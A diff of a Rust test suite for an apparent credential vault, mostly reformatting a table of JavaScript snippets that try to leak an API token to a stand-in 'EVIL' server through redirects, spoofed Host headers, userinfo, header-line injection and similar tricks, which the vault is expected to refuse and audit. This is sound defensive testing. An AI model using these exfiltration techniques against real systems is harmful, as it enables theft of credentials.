@@ -22,19 +22,39 @@ const ATTEMPTS: &[Attempt] = &[
     Attempt("joined with itself", "f(OWN, { headers: { 'X-Api-Key': P + P } })", true),
     Attempt("other host", "f(EVIL, { headers: { Authorization: 'Bearer ' + P } })", false),
     Attempt("other host, basic", "f(EVIL, { headers: { Authorization: 'Basic ' + btoa(P + ':x') } })", false),
-    Attempt("other host, basic without padding", "f(EVIL, { headers: { Authorization: 'Basic ' + btoa('a:' + P).replace(/=+$/, '') } })", false),
+    Attempt(
+        "other host, basic without padding",
+        "f(EVIL, { headers: { Authorization: 'Basic ' + btoa('a:' + P).replace(/=+$/, '') } })",
+        false,
+    ),
     Attempt("other port", "f(OWN.replace(/:\\d+$/, ':' + new URL(EVIL).port), { headers: { Authorization: P } })", false),
     Attempt("plain http", "f(OWN.replace('https:', 'http:'), { headers: { Authorization: P } })", false),
     Attempt("by a name in the clear", "f('http://nas.test:' + new URL(EVIL).port, { headers: { Authorization: CLEAR } })", false),
     Attempt("by address", "f(OWN.replace('localhost', '127.0.0.1'), { headers: { Authorization: P } })", false),
-    Attempt("redirect to another host", "f(OWN + '/to?url=' + encodeURIComponent(EVIL + '/x'), { headers: { Authorization: 'Bearer ' + P } }, true)", true),
-    Attempt("redirect with another header", "f(OWN + '/to?url=' + encodeURIComponent(EVIL + '/x'), { headers: { 'X-Api-Key': P } }, true)", true),
-    Attempt("redirect that the guest follows itself", "f(OWN + '/to?url=' + encodeURIComponent(EVIL + '/x'), { redirect: 'manual', headers: { 'X-Api-Key': P } }, true).then(() => f(EVIL, { headers: { 'X-Api-Key': P } }))", true),
+    Attempt(
+        "redirect to another host",
+        "f(OWN + '/to?url=' + encodeURIComponent(EVIL + '/x'), { headers: { Authorization: 'Bearer ' + P } }, true)",
+        true,
+    ),
+    Attempt(
+        "redirect with another header",
+        "f(OWN + '/to?url=' + encodeURIComponent(EVIL + '/x'), { headers: { 'X-Api-Key': P } }, true)",
+        true,
+    ),
+    Attempt(
+        "redirect that the guest follows itself",
+        "f(OWN + '/to?url=' + encodeURIComponent(EVIL + '/x'), { redirect: 'manual', headers: { 'X-Api-Key': P } }, true).then(() => f(EVIL, { headers: { 'X-Api-Key': P } }))",
+        true,
+    ),
     Attempt("host header", "f(EVIL, { headers: { Host: new URL(OWN).host, Authorization: P } })", false),
     Attempt("placeholder as host header", "f(OWN, { headers: { Host: P } })", false),
     Attempt("x-forwarded-host", "f(EVIL, { headers: { 'X-Forwarded-Host': new URL(OWN).host, Authorization: P } })", false),
     Attempt("userinfo", "f(OWN.replace('https://', 'https://' + P + ':x@'))", false),
-    Attempt("userinfo that looks like the host", "f(EVIL.replace('http://', 'http://localhost:443@'), { headers: { Authorization: P } })", false),
+    Attempt(
+        "userinfo that looks like the host",
+        "f(EVIL.replace('http://', 'http://localhost:443@'), { headers: { Authorization: P } })",
+        false,
+    ),
     Attempt("query", "f(OWN + '/q?key=' + P, {}, true)", false),
     Attempt("query, percent-encoded", "f(OWN + '/q?key=%77' + P.slice(1), {}, true)", false),
     Attempt("path", "f(OWN + '/' + P + '/x', {}, true)", false),
@@ -42,7 +62,11 @@ const ATTEMPTS: &[Attempt] = &[
     Attempt("fragment", "f(OWN + '/x#' + P, {}, true)", false),
     Attempt("host name", "f('https://' + P.replace('_', '-') + '.localhost:' + new URL(OWN).port)", false),
     Attempt("body", "f(OWN, { method: 'POST', body: P })", false),
-    Attempt("json body", "f(OWN, { method: 'POST', body: JSON.stringify({ a: P }), headers: { 'Content-Type': 'application/json' } })", false),
+    Attempt(
+        "json body",
+        "f(OWN, { method: 'POST', body: JSON.stringify({ a: P }), headers: { 'Content-Type': 'application/json' } })",
+        false,
+    ),
     Attempt("form body", "f(OWN, { method: 'POST', body: new URLSearchParams({ a: P }) })", false),
     Attempt("bytes of a body", "f(OWN, { method: 'POST', body: new TextEncoder().encode(P) })", false),
     Attempt("late in a long body", "f(OWN, { method: 'POST', body: 'x'.repeat(300000) + P })", false),
@@ -69,15 +93,16 @@ const ATTEMPTS: &[Attempt] = &[
     Attempt("connection", "f(OWN, { headers: { Connection: P } })", false),
     Attempt("a second line in a header", "f(EVIL, { headers: { 'X-Api-Key': 'a\\r\\nX: ' + P } })", false),
     Attempt("upper-case host", "f(EVIL.replace('127.0.0.1', 'LOCALHOST'), { headers: { Authorization: P } })", false),
-    Attempt("final dot", "f(OWN.replace('localhost', 'localhost.').replace(/:\\d+$/, ':' + new URL(EVIL).port), { headers: { Authorization: P } })", false),
+    Attempt(
+        "final dot",
+        "f(OWN.replace('localhost', 'localhost.').replace(/:\\d+$/, ':' + new URL(EVIL).port), { headers: { Authorization: P } })",
+        false,
+    ),
 ];
 
 fn attempts_script() -> String {
-    let attempts: Vec<String> = ATTEMPTS
-        .iter()
-        .enumerate()
-        .map(|(index, Attempt(_, code, _))| format!("await attempt({index}, async (f) => {code});"))
-        .collect();
+    let attempts: Vec<String> =
+        ATTEMPTS.iter().enumerate().map(|(index, Attempt(_, code, _))| format!("await attempt({index}, async (f) => {code});")).collect();
     format!(
         "const OWN = params.own, EVIL = params.evil, P = credentials.API_TOKEN, OTHER = credentials.OTHER_TOKEN, CLEAR = credentials.CLEAR_TOKEN;
         const seen = [];
@@ -105,7 +130,9 @@ fn corpus() -> Corpus {
     let vaulted = Vaulted::new();
     let evil = Server::start();
     let evil_port = evil.address().port();
-    let add = |name: &str, host: &str| ok(&vaulted.home.feed(&["credential", "add", name, &format!("--host={host}")], format!("{name}-0123456789")));
+    let add = |name: &str, host: &str| {
+        ok(&vaulted.home.feed(&["credential", "add", name, &format!("--host={host}")], format!("{name}-0123456789")))
+    };
     add("OTHER_TOKEN", &format!("127.0.0.1:{evil_port}"));
     add("CLEAR_TOKEN", &format!("nas.test:{evil_port}"));
     add("UNASSIGNED", &vaulted.host());
@@ -172,7 +199,7 @@ fn what_an_attempt_is_answered_holds_nothing_and_refusals_are_recorded_and_audit
     let refusals = corpus.record["usage"]["refusals"].as_array().unwrap();
     let credential = refusals.iter().filter(|refusal| refusal["capability"] == "credentials").count();
     assert!(credential >= 10, "{refusals:?}");
-    let audit = corpus.vaulted.home.read(&["audit", "list", "--event=credential_refused", "--limit=1000", "--json"]);
+    let audit = corpus.vaulted.home.read(&["audit", "list", "--event=credential-refused", "--limit=1000", "--json"]);
     let refused = audit["events"].as_array().unwrap().len();
     assert!(refused >= 20, "{refused}: {audit}");
     assert_clean("the audit log", audit.to_string().as_bytes(), VALUE);
@@ -208,7 +235,10 @@ fn where_the_grant_says_so_query_path_and_body_are_filled() {
         ("API_TOKEN:query", "'BASE/q?key=' + P + '&b=1'"),
         ("API_TOKEN:path", "'BASE/bot' + P + '/send'"),
         ("API_TOKEN:body", "'BASE/b', { method: 'POST', body: 'key=' + P }"),
-        ("API_TOKEN:body", "'BASE/j', { method: 'POST', body: JSON.stringify({ key: P }), headers: { 'Content-Type': 'application/json' } }"),
+        (
+            "API_TOKEN:body",
+            "'BASE/j', { method: 'POST', body: JSON.stringify({ key: P }), headers: { 'Content-Type': 'application/json' } }",
+        ),
         ("API_TOKEN:body", "'BASE/f', { method: 'POST', body: new URLSearchParams({ key: P }) }"),
     ] {
         let (record, ended) = vaulted.script(&fetch(what), scope, &[]);
